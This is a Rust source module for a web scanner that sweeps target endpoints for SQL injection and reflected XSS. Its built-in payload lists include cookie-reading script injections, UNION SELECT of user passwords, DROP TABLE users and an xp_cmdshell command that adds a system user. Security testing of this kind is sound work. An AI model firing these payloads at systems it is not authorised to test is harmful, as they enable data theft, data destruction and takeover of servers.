//! Payload sweep engine
//!
//! Both sweeps drive the same contract, [`PayloadProbe::probe`]: send one
//! payload to one endpoint and say whether the response gave it away. SQL
//! injection walks the corpus sequentially and stops at the first hit; XSS
//! spreads the full endpoint x payload product over a bounded worker pool.

pub mod sqli;
pub mod xss;

use crate::error::{ProbeError, Result};
use crate::http::HttpClient;
use crate::models::{Category, ProbeConfig, Target};
use crate::report::{CategoryOutcome, SweepOutcome};
use async_trait::async_trait;
use std::collections::BTreeMap;
use std::path::Path;
use tracing::{debug, info};
use url::Url;

/// Case-insensitive substrings that mark a database error leaking into a response
pub const SQL_ERROR_SIGNALS: &[&str] = &["error", "mysql", "syntax"];

/// One unit of work for a sweep
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SweepTask {
    pub endpoint: String,
    pub payload: String,
}

/// Sends one payload to one endpoint and classifies the response
#[async_trait]
pub trait PayloadProbe: Send + Sync {
    async fn probe(&self, endpoint: &str, payload: &str) -> Result<bool>;
}

/// POSTs the payload in a login-style form and looks for database error text
pub struct SqlErrorProbe {
    client: HttpClient,
    target: Target,
    field: String,
}

impl SqlErrorProbe {
    pub fn new(client: HttpClient, target: Target, field: impl Into<String>) -> Self {
        Self {
            client,
            target,
            field: field.into(),
        }
    }

    pub fn client(&self) -> &HttpClient {
        &self.client
    }
}

#[async_trait]
impl PayloadProbe for SqlErrorProbe {
    async fn probe(&self, endpoint: &str, payload: &str) -> Result<bool> {
        let url = self.target.join(endpoint)?;

        let mut fields = BTreeMap::new();
        fields.insert("password".to_string(), "any".to_string());
        fields.insert(self.field.clone(), payload.to_string());

        let response = self.client.post_form(url.as_str(), &fields).await?;
        let status = response.status();
        let body = response.text().await?;
        debug!("SQLi probe {endpoint} answered {status}");

        Ok(has_sql_signal(&body))
    }
}

/// GETs the payload as a query parameter and looks for it in the response
pub struct ReflectionProbe {
    client: HttpClient,
    target: Target,
    param: String,
    match_escaped: bool,
}

impl ReflectionProbe {
    pub fn new(client: HttpClient, target: Target, param: impl Into<String>, match_escaped: bool) -> Self {
        Self {
            client,
            target,
            param: param.into(),
            match_escaped,
        }
    }
}

#[async_trait]
impl PayloadProbe for ReflectionProbe {
    async fn probe(&self, endpoint: &str, payload: &str) -> Result<bool> {
        let url = build_test_url(&self.target, endpoint, &self.param, payload)?;
        let response = self.client.get(url.as_str()).await?;
        let body = response.text().await?;
        Ok(reflects(&body, payload, self.match_escaped))
    }
}

/// Builds `<endpoint>?<param>=<payload>` against the target, keeping any existing query
pub fn build_test_url(target: &Target, endpoint: &str, param: &str, payload: &str) -> Result<Url> {
    let mut url = target.join(endpoint)?;
    url.query_pairs_mut().append_pair(param, payload);
    Ok(url)
}

pub fn has_sql_signal(body: &str) -> bool {
    let lower = body.to_lowercase();
    SQL_ERROR_SIGNALS.iter().any(|signal| lower.contains(signal))
}

/// True when the payload comes back verbatim, or HTML-escaped if `match_escaped` is set
pub fn reflects(body: &str, payload: &str, match_escaped: bool) -> bool {
    if payload.is_empty() {
        return false;
    }
    if body.contains(payload) {
        return true;
    }
    if match_escaped {
        let escaped = html_escape(payload);
        return escaped != payload && body.contains(&escaped);
    }
    false
}

pub fn html_escape(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for c in raw.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            other => out.push(other),
        }
    }
    out
}

/// Fails the sweep when the target cannot be reached at all. Any HTTP answer counts as reachable.
pub async fn check_reachable(client: &HttpClient, target: &Target) -> Result<()> {
    let response = client.get(target.base_url().as_str()).await?;
    debug!("Reachability check: {} for {target}", response.status());
    Ok(())
}

/// Loads a payload corpus: one payload per line, blank lines and `#` comments skipped
pub fn load_payloads(path: &Path) -> Result<Vec<String>> {
    let content = std::fs::read_to_string(path)?;
    let payloads: Vec<String> = content
        .lines()
        .map(|line| line.trim_end_matches('\r'))
        .filter(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#'))
        .map(|line| line.to_string())
        .collect();

    if payloads.is_empty() {
        return Err(ProbeError::Config(format!(
            "payload file {} contains no payloads",
            path.display()
        )));
    }

    info!("Loaded {} payloads from {}", payloads.len(), path.display());
    Ok(payloads)
}

pub fn default_xss_payloads() -> Vec<String> {
    [
        "<script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\">",
        "javascript:alert(1)",
        "'-alert(1)-'",
        "\"><script>alert(document.cookie)</script>",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

pub fn default_sqli_payloads() -> Vec<String> {
    [
        "' OR 1=1 --",
        "' OR 'a'='a",
        "' UNION SELECT NULL, username, password FROM users --",
        "'; DROP TABLE users --",
        "admin'--",
        "' OR '1'='1' -- ",
        "'; --",
        "'; EXEC xp_cmdshell('net user test testpass /add') --",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// SQL injection category scanner
pub struct SqlInjectionScanner;

#[async_trait]
impl super::Scanner for SqlInjectionScanner {
    fn category(&self) -> Category {
        Category::SqlInjection
    }

    fn description(&self) -> &str {
        "Sequential SQL injection sweep, stops at the first database error signal"
    }

    async fn scan(&self, target: &Target, config: &ProbeConfig) -> CategoryOutcome {
        let outcome = match sqli::sweep(target, config).await {
            Ok(hit) => SweepOutcome::Completed {
                matches: hit.into_iter().collect(),
                partial: false,
            },
            Err(e) => SweepOutcome::Failed(e.to_string()),
        };
        CategoryOutcome::SqlInjection(outcome)
    }
}

/// Reflected XSS category scanner
pub struct XssScanner;

#[async_trait]
impl super::Scanner for XssScanner {
    fn category(&self) -> Category {
        Category::Xss
    }

    fn description(&self) -> &str {
        "Concurrent reflected XSS sweep over every endpoint and payload"
    }

    async fn scan(&self, target: &Target, config: &ProbeConfig) -> CategoryOutcome {
        let outcome = match xss::sweep(target, config).await {
            Ok(sweep) => SweepOutcome::Completed {
                matches: sweep.matches,
                partial: sweep.deadline_exceeded,
            },
            Err(e) => SweepOutcome::Failed(e.to_string()),
        };
        CategoryOutcome::Xss(outcome)
    }
}
